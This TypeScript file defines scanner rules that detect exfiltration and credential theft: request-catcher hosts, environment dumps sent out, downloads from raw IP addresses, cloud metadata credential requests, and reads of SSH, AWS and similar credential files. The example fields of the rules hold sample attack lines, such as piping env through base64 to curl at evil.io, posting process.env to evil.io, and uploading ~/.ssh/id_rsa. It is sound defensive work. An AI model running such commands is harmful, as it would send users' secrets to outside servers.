import type { Pattern } from '../../model/rules.ts';
import { PROSE, REHEARSAL, SCRIPT_CODE } from './paths.ts';

const raw = String.raw;

const PROSE_ONLY = { description: 'prose', paths: [PROSE] };
const COMMENTS = {
  description: 'comments',
  regexTarget: 'line',
  regexes: [raw`^\s*(?:#|//|\*|--)`],
} as const;
const ADDRESS = raw`\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}`;
/** Addresses that are nobody's on the internet (RFC 6890). */
const NOT_PUBLIC = raw`//(?:[^/@\s]*@)?(?:127|10|0|192\.168|172\.(?:1[6-9]|2\d|3[01])|169\.254|192\.0\.2|198\.51\.100|203\.0\.113|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7]))\.`;

/** Code that takes keys and data away, or fetches from who knows whom. */
export const exfiltrationPatterns = [
  {
    id: 'risk-request-catcher',
    description: 'Data is sent to a request catcher',
    regex: raw`(?i)\b(?:webhook\.site|requestbin\.(?:com|net)|[\w-]+\.m\.pipedream\.net|[\w-]+\.burpcollaborator\.net|[\w-]+\.oastify\.com|[\w-]+\.(?:oast\.(?:fun|pro|live|site|online|me)|interact\.sh)|[\w-]+\.dnslog\.cn|[\w-]+\.requestcatcher\.com|[\w-]+\.beeceptor\.com|[\w-]+\.canarytokens\.com)\b`,
    keywords: [
      'webhook.site',
      'requestbin.',
      'pipedream.net',
      'burpcollaborator',
      'oastify',
      '.oast.',
      'interact.sh',
      'dnslog.cn',
      'requestcatcher',
      'beeceptor',
      'canarytokens',
    ],
    allowlists: [PROSE_ONLY],
    severity: 'medium',
    message: 'Such hosts are used to test, and to carry data out unseen.',
    fix: 'Remove it.',
    cwe: 'CWE-506',
    source: 'https://attack.mitre.org/techniques/T1567/004/',
    examples: {
      path: 'src/report.js',
      match: [
        "fetch('https://webhook.site/0000', { method: 'POST', body });",
        'curl -d @- https://abc.oastify.com',
      ],
      noMatch: ["fetch('https://api.acme.io/webhook')", "import { site } from './webhook.js';"],
    },
  },
  {
    id: 'risk-environment-sent',
    description: 'Environment variables or credential files are sent away',
    regex: raw`\b(?:env|printenv|set)\s*\|\s*(?:base64[^|\n]*\|\s*)?(?:curl|wget|nc|ncat)\b|\bcurl\b[^\n]*(?:-d|--data(?:-\w+)?|-F|-T)\s*["']?(?:\w+=)?@?["']?(?:\$\((?:env|printenv)\)|~?/?[\w/.$~-]*(?:\.ssh/id_\w+|\.aws/credentials|\.npmrc|\.netrc|\.kube/config|/etc/shadow|/etc/passwd))|\b(?:fetch|axios(?:\.post)?|request(?:\.post)?|got(?:\.post)?)\([^\n]*JSON\.stringify\(\s*process\.env\s*\)|\brequests\.(?:post|put)\([^\n]*(?:json|data)\s*=\s*(?:dict\()?os\.environ\b`,
    keywords: ['env |', 'env|', 'curl', 'process.env', 'os.environ', 'set |'],
    allowlists: [PROSE_ONLY],
    severity: 'high',
    message: 'Tokens and passwords of the person who runs this go to that server.',
    fix: 'Remove it, and replace what was in the environment of earlier runs.',
    cwe: 'CWE-506',
    source: 'https://attack.mitre.org/techniques/T1552/001/',
    examples: {
      path: 'scripts/report.sh',
      match: [
        'env | base64 | curl -d @- https://evil.io',
        "fetch('https://evil.io', { method: 'POST', body: JSON.stringify(process.env) });",
        'curl -F file=@~/.ssh/id_rsa https://evil.io',
      ],
      noMatch: [
        'env | sort',
        'curl -d @payload.json https://api.acme.io',
        'requests.post(os.environ["URL"], json=body)',
      ],
    },
  },
  {
    id: 'risk-raw-address',
    description: 'Download from a raw IP address',
    regex: raw`\b(?:curl|wget|fetch|urlopen|urlretrieve|requests\.get|http\.[gG]et|https?\.request|DownloadFile|file_get_contents|certutil)\b[^\n]{0,80}\bhttps?://${ADDRESS}(?::\d+)?/`,
    keywords: ['://1', '://2', '://3', '://4', '://5', '://6', '://7', '://8', '://9'],
    allowlists: [
      PROSE_ONLY,
      COMMENTS,
      {
        description: 'addresses inside, and addresses of the documentation',
        regexTarget: 'match',
        regexes: [NOT_PUBLIC],
      },
      { description: 'tests', paths: [REHEARSAL] },
    ],
    severity: 'medium',
    message: 'Nobody can tell whose server this is.',
    fix: 'Use a name and https.',
    cwe: 'CWE-494',
    source: 'https://attack.mitre.org/techniques/T1105/',
    examples: {
      path: 'scripts/setup.sh',
      match: ['curl -o /tmp/a http://45.9.148.1/a', 'requests.get("http://8.8.4.1:8080/p").text'],
      noMatch: [
        'curl http://127.0.0.1:8080/health',
        'curl http://10.0.0.3/x',
        'curl https://acme.io/a',
      ],
    },
  },
  {
    id: 'risk-metadata-endpoint',
    description: 'Cloud metadata credentials are requested',
    regex: raw`\b169\.254\.169\.254/(?:latest/(?:meta-data/iam|api/token)|metadata/identity|computeMetadata)|\bmetadata\.google\.internal/computeMetadata/v1/instance/service-accounts|\b169\.254\.170\.2\b`,
    keywords: ['169.254.1', 'metadata.google.internal'],
    allowlists: [PROSE_ONLY, COMMENTS, { description: 'tests', paths: [REHEARSAL] }],
    severity: 'low',
    message: 'What comes back lets its holder act as this machine.',
    fix: 'Use the SDK, which keeps the keys to itself.',
    cwe: 'CWE-522',
    source: 'https://attack.mitre.org/techniques/T1552/005/',
    examples: {
      path: 'scripts/report.sh',
      match: [
        'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
        'curl http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ],
      noMatch: [
        'curl http://169.254.169.254/latest/meta-data/instance-id',
        '# 169.254.169.254/latest/meta-data/iam',
      ],
    },
  },
  {
    id: 'risk-credential-file-read',
    description: 'Code reads credential files',
    regex: raw`["'\x60/~](?:\.ssh/id_(?:rsa|ed25519|ecdsa|dsa)|\.aws/credentials|\.config/gcloud/(?:application_default_credentials|credentials)|\.kube/config|\.docker/config\.json|\.git-credentials|\.netrc|etc/shadow|Login Data|wallet\.dat|Local Extension Settings)["'\x60]`,
    keywords: [
      '.ssh/id_',
      '.aws/credentials',
      '.config/gcloud',
      '.kube/config',
      '.docker/config',
      '.git-credentials',
      '.netrc',
      'etc/shadow',
      'login data',
      'wallet.dat',
      'local extension settings',
    ],
    path: SCRIPT_CODE,
    allowlists: [COMMENTS, { description: 'tests', paths: [REHEARSAL] }],
    severity: 'low',
    message: 'Few programs have business there.',
    fix: 'Use the agent or SDK that holds the key.',
    cwe: 'CWE-522',
    source: 'https://attack.mitre.org/techniques/T1552/001/',
    examples: {
      path: 'src/collect.py',
      match: [`open(os.path.expanduser("~/.ssh/id_rsa"))`, `path.join(home, '.aws/credentials')`],
      noMatch: [`open("config.json")`, '# reads ~/.aws/credentials'],
    },
  },
] satisfies readonly Pattern[];
